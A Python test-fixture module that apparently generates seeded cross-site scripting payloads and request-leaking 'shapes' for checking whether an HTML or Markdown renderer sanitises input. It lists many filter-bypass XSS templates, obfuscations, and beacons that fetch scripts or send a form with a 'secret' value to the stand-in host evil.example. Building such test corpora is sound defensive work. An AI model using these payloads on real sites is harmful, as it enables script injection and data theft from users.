"""Made-up attacks on the page: payloads that would run a script, and shapes that would send a request out.

Both are made from the known families by a seeded choice, so that the same number is the same attack.
"""

# ruff: noqa: E501  a payload is one line

import html
import random
from collections.abc import Iterator
from urllib.parse import quote

AWAY = "evil.example"
_TAGS = (
    "img",
    "video",
    "audio",
    "svg",
    "body",
    "input",
    "details",
    "select",
    "object",
    "marquee",
    "iframe",
    "a",
)
_EVENTS = (
    "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "onclick",
    "onbeforetoggle", "onscroll", "onwheel", "oncontentvisibilityautostatechange", "onstart", "onbegin",
)  # fmt: skip
_SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", "&#106;avascript:{js}",
    "javascript&colon;{js}", "\x01javascript:{js}", "javascript://%0a{js}", "vbscript:{js}",
    "data:text/html,<script>parent.{js}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={js}>", "view-source:javascript:{js}", "%6aavascript:{js}", "feed:javascript:{js}",
)  # fmt: skip
_TEMPLATES = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script src=//{away}/{n}.js></script>",
    "<{tag} src=x {event}={js}>",
    '<{tag} src="x" {event}="{js}" autofocus tabindex=1>',
    "<{tag}/{event}='{js}'//",
    "<{tag}\n{event}\n=\n{js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<svg><set href="#x" attributeName=href to="{scheme}"/><a id=x><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload={js}>#x"/></svg>',
    '<math><mi xlink:href="{scheme}">x</mi></math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={js}>'>",
    '<a href="{scheme}">x</a>',
    '<iframe src="{scheme}"></iframe>',
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    '<object data="{scheme}"></object><embed src="{scheme}">',
    '<form action="{scheme}"><button>x</button></form><button formaction="{scheme}">x</button>',
    '<meta http-equiv=refresh content="0;url={scheme}">',
    '<base href="//{away}/"><link rel=stylesheet href="{scheme}">',
    "<style>@import '//{away}/{n}.css';*{{animation:x}}</style><style onload={js}></style>",
    '"><{tag} src=x {event}={js}>',
    "'><script>{js}</script>",
    '" {event}={js} autofocus x="',
    "' {event}='{js}' x='",
    "`{event}=`{js}` x=`",
    "</textarea></title></style></script><{tag} src=x {event}={js}>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script><![CDATA[",
    "${{{js}}} `${{{js}}}` #{{{js}}}",
    "{{{{constructor.constructor('{js}')()}}}} {{% raw %}}{js}{{% endraw %}}",
    "<% {js} %> <?php {js} ?> <#assign x={js}>",
    "[x]({scheme}) ![x]({scheme})",
    "[x]: {scheme} 'x'\n\n[x] [x][] ![x][x]",
    "<{scheme}> [<{tag} src=x {event}={js}>](x)",
    "![x\" {event}={js} x=\"](x) [x](x '\" {event}={js}')",
    "$\\href{{{scheme}}}{{x}}$ $$\\url{{{scheme}}}$$ \\(\\htmlData{{x={js}}}{{x}}\\)",
    "```html\n<script>{js}</script>\n``` `<img src=x onerror={js}>`",
    "<!--[if IE]><script>{js}</script><![endif]--> <!DOCTYPE x [<!ENTITY x '{js}'>]>",
    "<template shadowrootmode=open><{tag} src=x {event}={js}></template>",
    "<details open ontoggle={js}><summary>x</summary></details><dialog open onclose={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e \\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "＜script＞{js}＜/script＞ +ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<img src=x:x onerror&#61;{js}> <img src=x oNeRrOr=eval(atob('d2luZG93LnJhbj0x'))>",
    "javascript:{js}//*/--></title></style></textarea></script><svg onload={js}>",
    '{{"__proto__":{{"innerHTML":"<img src=x onerror={js}>"}}}}</script><script>{js}//',
    "fn-0~0~1~0~1' {event}={js} #fn-1~../../{away}~1~0~1 <a class=fn-mark href=\"{scheme}\">1</a>",
    "<button class=fn-mark popovertarget=x onclick={js}>1</button><input type=image src=x {event}={js}>",
)  # fmt: skip
_SHAPES = (
    "![x](http://{away}/{n}.png)", "[x]: http://{away}/{n}\n\n![x][x] [x]", "<http://{away}/{n}> http://{away}/{n}",
    "<img src=//{away}/{n}>", '<img srcset="//{away}/{n} 2x, //{away}/{n}b 1x">', "<img lowsrc=//{away}/{n} dynsrc=//{away}/{n}>",
    "<picture><source srcset=//{away}/{n}><img></picture>", "<video poster=//{away}/{n} src=//{away}/{n}v></video>",
    "<audio src=//{away}/{n} autoplay></audio>", "<track src=//{away}/{n}> <input type=image src=//{away}/{n}>",
    "<style>@import url(//{away}/{n}.css);</style>", "<p style='background:url(//{away}/{n})'>x</p>",
    "<style>@font-face{{font-family:x;src:url(//{away}/{n})}}*{{font-family:x}}</style>",
    "<div style=\"list-style:url('//{away}/{n}');content:url(//{away}/{n}c);cursor:url(//{away}/{n}d),auto\">x</div>",
    "<link rel=prefetch href=//{away}/{n}>", "<link rel=dns-prefetch href=//{n}.{away}><link rel=preconnect href=//{away}>",
    "<link rel=stylesheet href=//{away}/{n}> <link rel=icon href=//{away}/{n}i>", "<link rel=modulepreload href=//{away}/{n}>",
    "<svg><image href=//{away}/{n} /><use href=//{away}/{n}u#x /><feImage href=//{away}/{n}f /></svg>",
    "<svg style='fill:url(//{away}/{n}#x);filter:url(//{away}/{n}f#x)'><rect/></svg>",
    "<form action=//{away}/{n} id=f><input name=q value=secret></form><button form=f>x</button>",
    "<meta http-equiv=refresh content='0;url=http://{away}/{n}'>", "<meta http-equiv=Content-Security-Policy-Report-Only content='report-uri //{away}/{n}'>",
    "<a ping=//{away}/{n} href=#>x</a>", "<iframe src=//{away}/{n}></iframe><frameset><frame src=//{away}/{n}f></frameset>",
    "<object data=//{away}/{n}></object><embed src=//{away}/{n}e><applet code=//{away}/{n}a>",
    "<base href=http://{away}/><img src={n}>", "<script src=//{away}/{n}></script><script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"//{away}/{n}\"]}}]}}</script>",
    "<body background=//{away}/{n}><table background=//{away}/{n}t><td background=//{away}/{n}d>",
    "<math><maction actiontype='statusline#http://{away}/{n}' xlink:href=//{away}/{n}>x</maction></math>",
    "$\\includegraphics{{http://{away}/{n}}}$ $$\\href{{http://{away}/{n}}}{{x}}$$", "<portal src=//{away}/{n}></portal><fencedframe src=//{away}/{n}>",
    "[![x](//{away}/{n}.gif)](//{away}/{n}) ![x](<//{away}/{n}> 'x')", "<html manifest=//{away}/{n}><img attributionsrc=//{away}/{n}>",
)  # fmt: skip


def payloads(count: int, seed: int = 6) -> list[str]:
    """Return so many payloads; number n, from 1, sets `window.ran` to n, or opens a dialog, if it runs."""
    chance, made = random.Random(seed), []
    for number in range(1, count + 1):
        js = f"window.ran={number}" if number % 5 else f"alert({number})"
        template = _TEMPLATES[(number - 1) % len(_TEMPLATES)]
        scheme = chance.choice(_SCHEMES).format(js=js)
        given = {"tag": chance.choice(_TAGS), "event": chance.choice(_EVENTS), "scheme": scheme, "away": AWAY}
        payload = template.format(js=js, n=number, **given)
        made.append(_disguised(chance, payload) if number > len(_TEMPLATES) else payload)
    return made


def _disguised(chance: random.Random, payload: str) -> str:
    kind = chance.randrange(6)
    if kind == 0:
        return html.escape(payload)  # what is unescaped once too often
    if kind == 1:
        return quote(payload)
    if kind == 2:
        return payload.replace("<", "&lt").replace("=", "&#x3d;")
    if kind == 3:
        return payload.upper() if "window" not in payload and "alert" not in payload else f"\ufeff{payload}"
    if kind == 4:
        return payload.replace(" ", "\u00a0/", 1).replace("<", "<\u200b", 1) + payload
    return payload


def shapes(count: int) -> list[str]:
    """Return so many texts that would send a request to `AWAY` if they were taken for more than text."""
    wraps = ("{}", "Read {} now.", "> {}", "- {}", "| {} | x |\n|---|---|")
    return [
        wraps[number // len(_SHAPES) % len(wraps)].format(
            _SHAPES[number % len(_SHAPES)].format(away=AWAY, n=number)
        )
        for number in range(count)
    ]


def halves(texts: list[str], seed: int = 7) -> Iterator[tuple[str, str]]:
    """Yield each text cut in two where a stream might pause."""
    chance = random.Random(seed)
    for text in texts:
        cut = chance.randrange(1, len(text))
        yield text[:cut], text[cut:]
